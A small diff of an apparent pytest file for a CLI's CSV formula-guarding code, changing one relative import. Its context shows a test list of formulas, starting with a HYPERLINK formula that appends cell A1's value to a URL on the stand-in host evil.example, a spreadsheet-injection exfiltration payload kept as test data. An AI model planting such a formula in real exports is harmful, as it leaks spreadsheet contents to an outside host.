@@ -14,7 +14,7 @@ import pytest
 from virtnum.cli.output.formulas import unguard, write_csv
 from virtnum.testing import FakeServer
 
-from .._support import run_cli
+from ..._support import run_cli
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
